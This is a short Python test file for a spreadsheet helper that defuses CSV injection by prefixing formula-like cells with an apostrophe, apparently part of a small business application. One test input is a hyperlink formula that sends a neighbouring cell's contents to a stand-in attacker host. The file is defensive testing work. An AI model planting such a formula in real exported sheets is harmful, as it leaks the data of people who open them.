"""Cells that a spreadsheet would run as formulas are written as text (CSV injection)."""

from datetime import date

import pytest

from wirausaha.common.spreadsheets import safe_cell, safe_row


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&C2,"klik")', "+62 812 3456 7890", "-5", "@SUM(A1)", "\tx", "\rx"],
)
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Siti", "0812 3456 7890", "", None, -5, 2.5, date(2025, 3, 1), True])
def test_other_text_and_every_number_or_date_is_written_as_it_is(value):
    assert safe_cell(value) == value


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1+1", -3, "a"]) == ["'=1+1", -3, "a"]
